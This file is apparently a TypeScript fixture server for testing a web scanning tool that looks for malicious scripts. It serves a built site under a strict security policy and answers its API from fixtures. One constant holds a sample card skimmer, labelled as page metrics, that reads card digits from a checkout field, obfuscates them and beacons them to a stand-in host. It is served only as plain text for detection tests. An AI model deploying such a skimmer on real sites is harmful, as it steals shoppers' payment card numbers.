// Owns a small server for tests and development: the built site with its policy, and the contract answered from fixtures.
import { randomBytes } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { extname, join } from 'node:path'
import { type AddressProblem, type ProblemCode, parsePageAddress } from '@tillwatch/core/shared'
import { fixtureProgress, fixtureScans } from './fixtures/scans.ts'

const types: Record<string, string> = { '.js': 'text/javascript', '.css': 'text/css', '.woff2': 'font/woff2', '.svg': 'image/svg+xml' }

const policy = (nonce: string) =>
  "default-src 'none'; base-uri 'none'; object-src 'none'; frame-ancestors 'none'; form-action 'self'; img-src 'self' data: blob:; " +
  `font-src 'self'; connect-src 'self'; manifest-src 'self'; worker-src 'self'; script-src 'self' 'nonce-${nonce}'; style-src 'self' 'nonce-${nonce}'`

function json(response: ServerResponse, status: number, body: unknown): void {
  response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body))
}

function problem(response: ServerResponse, status: number, code: ProblemCode, detail: string, reason?: AddressProblem): void {
  json(response, status, {
    type: 'about:blank',
    title: code,
    status,
    detail,
    code,
    requestId: 'fixture',
    ...(status === 400 ? { field: 'url' } : {}),
    ...(reason ? { reason } : {}),
  })
}

const code = `// collects page metrics\nfunction collect(field) {\n  const digits = field.value.replace(/\\D/g, '')\n  if (digits.length < 13) return null\n  return btoa(digits.split('').map((d) => d ^ 5).join(''))\n}\ndocument.querySelector('#cc').addEventListener('input', (event) => {\n  const value = collect(event.target)\n  if (value) navigator.sendBeacon('https://px.cdn-metrics-eu.example/b', value)\n})\n`

function serveEvents(response: ServerResponse): void {
  response.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' })
  response.write(`event: progress\ndata: ${JSON.stringify(fixtureProgress)}\n\n`)
}

async function startScan(request: IncomingMessage, response: ServerResponse): Promise<void> {
  let text = ''
  for await (const chunk of request) text += String(chunk)
  const { url, cloakCheck } = JSON.parse(text) as { url: string; cloakCheck: boolean }
  const read = parsePageAddress(url)
  if (!read.ok) return problem(response, 400, 'bad-address', read.sentence, read.problem)
  if (new URL(read.url).hostname === '127.0.0.1') return problem(response, 400, 'address-refused', '127.0.0.1 is a private address.')
  const [running] = fixtureScans
  json(response, 201, { ...running!.summary, url: read.url, cloakCheck: cloakCheck ? 'pending' : 'not-asked' })
}

async function serveApi(request: IncomingMessage, response: ServerResponse, path: string[]): Promise<void> {
  const [id, part, , last] = path
  if (!id)
    return request.method === 'POST'
      ? startScan(request, response)
      : json(response, 200, { scans: fixtureScans.map((scan) => scan.summary), next: null })
  const scan = fixtureScans.find((candidate) => candidate.summary.id === id)
  if (!scan) return problem(response, 404, 'not-found', 'There is no scan with this number.')
  if (request.method === 'DELETE') return void response.writeHead(204).end()
  if (!part) return json(response, 200, scan.summary)
  if (part === 'events') return serveEvents(response)
  if (part === 'cancel') return json(response, 200, { ...scan.summary, state: 'cancelled' })
  if (part === 'result')
    return scan.result ? json(response, 200, scan.result) : problem(response, 409, 'not-ready', 'This scan has no result.')
  if (part === 'screenshot') return void response.writeHead(200, { 'content-type': 'image/svg+xml' }).end(picture)
  if (part === 'scripts' && last === 'source')
    return void response.writeHead(200, { 'content-type': 'text/plain', 'x-source-note': 'not-javascript' }).end(code)
  problem(response, 404, 'not-found', 'There is nothing here.')
}

const picture = `<svg xmlns="http://www.w3.org/2000/svg" width="1440" height="1800" font-family="sans-serif"><rect width="1440" height="1800" fill="#fbfaf8"/><rect width="1440" height="96" fill="#1d2a35"/><text x="64" y="60" font-size="32" fill="#fff">Example Shop</text><text x="64" y="180" font-size="40" fill="#222">Checkout</text><rect x="64" y="230" width="760" height="420" fill="#fff" stroke="#d24" stroke-width="6"/><rect x="104" y="280" width="680" height="64" fill="#f1f1f1"/><rect x="104" y="372" width="320" height="64" fill="#f1f1f1"/><rect x="464" y="372" width="320" height="64" fill="#f1f1f1"/><rect x="104" y="500" width="680" height="80" fill="#27795b"/><rect x="900" y="230" width="460" height="300" fill="#eee"/></svg>`

async function serveSite(response: ServerResponse, dist: string, path: string): Promise<void> {
  const type = types[extname(path)]
  const file = type ? await readFile(join(dist, path)).catch(() => null) : null
  if (file) return void response.writeHead(200, { 'content-type': type }).end(file)
  if (type) return void response.writeHead(404).end()
  const nonce = randomBytes(16).toString('base64')
  const html = await readFile(join(dist, 'index.html'), 'utf8')
  response.writeHead(200, {
    'content-type': 'text/html; charset=utf-8',
    'content-security-policy': policy(nonce),
    'cache-control': 'no-store',
  })
  response.end(html.replaceAll('__CSP_NONCE__', nonce))
}

const builtSite = join(import.meta.dirname, '..', 'dist')

/** Starts the server on loopback; `port` 0 takes a free one. `dist` holds the built site; the API answers without it. */
export async function startFixtureServer({ port = 0, dist = builtSite } = {}): Promise<{ origin: string; close: () => Promise<void> }> {
  const server: Server = createServer((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://localhost')
    const api = /^\/api\/v1\/scans\/?(.*)$/.exec(pathname)
    void (api ? serveApi(request, response, (api[1] ?? '').split('/')) : serveSite(response, dist, pathname))
  })
  await new Promise<void>((done) => server.listen(port, '127.0.0.1', done))
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  const close = () =>
    new Promise<void>((done) => {
      server.closeAllConnections()
      server.close(() => done())
    })
  return { origin, close }
}
